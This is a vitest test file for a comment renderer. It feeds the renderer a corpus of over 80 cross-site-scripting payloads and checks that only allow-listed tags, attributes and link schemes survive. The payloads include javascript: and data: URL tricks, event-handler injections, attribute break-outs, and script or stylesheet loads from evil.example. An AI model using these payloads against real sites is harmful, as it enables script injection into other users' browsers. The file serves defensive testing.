import { parseFragment, type DefaultTreeAdapterTypes as Tree } from 'parse5';
import { expect, test } from 'vitest';
import { renderComment } from '../../src/comments/body.ts';

const ALLOWED: Record<string, string[]> = {
  ...{ p: [], br: [], em: [], strong: [], code: [], pre: [], blockquote: [], ul: [], li: [] },
  ol: ['start'],
  a: ['href', 'rel'],
};

function elementsOf(node: Tree.ParentNode): Tree.Element[] {
  return node.childNodes.flatMap((child) =>
    'tagName' in child ? [child, ...elementsOf(child)] : [],
  );
}

/** Throws if the HTML has anything that a comment may not have. */
function expectSafe(markdown: string) {
  for (const { tagName, attrs } of elementsOf(parseFragment(renderComment(markdown).bodyHtml))) {
    expect(Object.keys(ALLOWED), markdown).toContain(tagName);
    for (const { name, value } of attrs) {
      expect(ALLOWED[tagName], markdown).toContain(name);
      if (name === 'href') expect(value, markdown).toMatch(/^(https?:\/\/|mailto:)/i);
      if (name === 'rel') expect(value).toBe('nofollow ugc');
      if (name === 'start') expect(value).toMatch(/^\d+$/);
    }
  }
}

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\u0000script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  '%6Aavascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'file:///etc/passwd',
  'blob:https://a.example/1',
  'about:blank',
  'ftp://a.example/',
  '//evil.example/',
  '/admin',
  'mailto:a@b.example"onclick="alert(1)',
  'https://good.example@evil.example/',
  'https://a.example/"onmouseover="alert(1)',
  "https://a.example/'onmouseover='alert(1)",
  'http://a.example/<script>',
  'https://a.example/`onclick=alert(1)`',
];

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</p><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
];

const markdown = [
  '# A heading',
  'A heading\n=========',
  'A heading\n---',
  '***\n---\n___',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '~~gone~~',
  '![x](https://a.example/x.png)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://a.example/x.png)',
  '[![x](https://a.example/x.png)](javascript:alert(1))',
  '[x](https://a.example "title\\" onclick=\\"alert(1)")',
  "[x](https://a.example 'onclick=alert(1)')",
  '[x][1]\n\n[1]: javascript:alert(1)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onclick="alert(1)\ncode\n```',
  '~~~html\n</code></pre><script>alert(1)</script>\n~~~',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '1. [x](javascript:alert(1))',
  '999999999. far',
  '**<b onclick=alert(1)>x</b>**',
  'https://a.example/<script>alert(1)</script>',
  'https://a.example/"><script>alert(1)</script>',
  `${'> '.repeat(200)}deep`,
  `${'['.repeat(500)}x${'](javascript:1)'.repeat(500)}`,
  `${'*'.repeat(5_000)}a${'*'.repeat(4_000)}`,
];

const payloads = [
  ...schemes.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `<${url}>`, url]),
  ...html,
  ...markdown,
];

test('the corpus has at least 80 payloads', () => {
  expect(new Set(payloads).size).toBeGreaterThan(80);
});

test.each(payloads.map((payload) => [payload.slice(0, 100), payload] as const))(
  'a hostile comment is rendered as text or safe Markdown: %j',
  (_, payload) => {
    expectSafe(payload);
    expectSafe(`Before ${payload} after`);
    expectSafe(`> - ${payload}`);
  },
);

test('HTML in a comment is shown as it was typed', () => {
  expect(renderComment('a <b>c</b>').bodyHtml).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>\n');
});

test('allowed Markdown in a comment is rendered', () => {
  const { bodyHtml, text, links } = renderComment(
    'One *em* **strong** `code`\nTwo <https://a.example/x> [b](http://b.example)\n\n' +
      '> quoted\n\n- item\n\n```js\nlet a;\n```\n\nhttps://c.example [m](mailto:a@b.example)',
  );
  expect(bodyHtml).toBe(
    '<p>One <em>em</em> <strong>strong</strong> <code>code</code><br>\n' +
      'Two <a href="https://a.example/x" rel="nofollow ugc">https://a.example/x</a> ' +
      '<a href="http://b.example" rel="nofollow ugc">b</a></p>\n' +
      '<blockquote>\n<p>quoted</p>\n</blockquote>\n<ul>\n<li>item</li>\n</ul>\n' +
      '<pre><code>let a;\n</code></pre>\n' +
      '<p><a href="https://c.example" rel="nofollow ugc">https://c.example</a> ' +
      '<a href="mailto:a@b.example" rel="nofollow ugc">m</a></p>\n',
  );
  expect(text).toBe(
    'One em strong code Two https://a.example/x b\nquoted\nitem\nlet a;\nhttps://c.example m',
  );
  expect(links).toEqual([
    'https://a.example/x',
    'http://b.example',
    'https://c.example',
    'mailto:a@b.example',
  ]);
});

test('bidirectional overrides and invisible characters are removed from a comment', () => {
  expect(renderComment('a\u202eb\u2066c\u200b\ufeffd').text).toBe('abcd');
});

test.each([
  ['addresses that run into each other', '中http://a.example/'.repeat(550)],
  ['asterisks', `${'*'.repeat(5_000)}a${'*'.repeat(4_000)}`],
])('a comment of %s stays the text it is', (_of, markdown) => {
  const { bodyHtml, links, text } = renderComment(markdown);
  expect(links).toEqual([]);
  expect(bodyHtml).not.toContain('<a ');
  expect(text.length).toBeGreaterThan(9_000);
});

test('three addresses in a word become links', () => {
  const word = 'https://web.example/save/https://a.example/https://b.example/';
  expect(renderComment(word).links).toEqual([word]);
});

test('an entity does not bring back invisible characters', () => {
  expect(renderComment('a&#8238;b &amp; c').text).toBe('a&#8238;b &amp; c');
  expect(renderComment('[&#8203;](http://spam.example)').text).toBe('&#8203;');
});

test('emphasis in a comment needs no space beside CJK punctuation', () => {
  expect(renderComment('**重要（注意）：**请看').bodyHtml).toBe(
    '<p><strong>重要（注意）：</strong>请看</p>\n',
  );
});
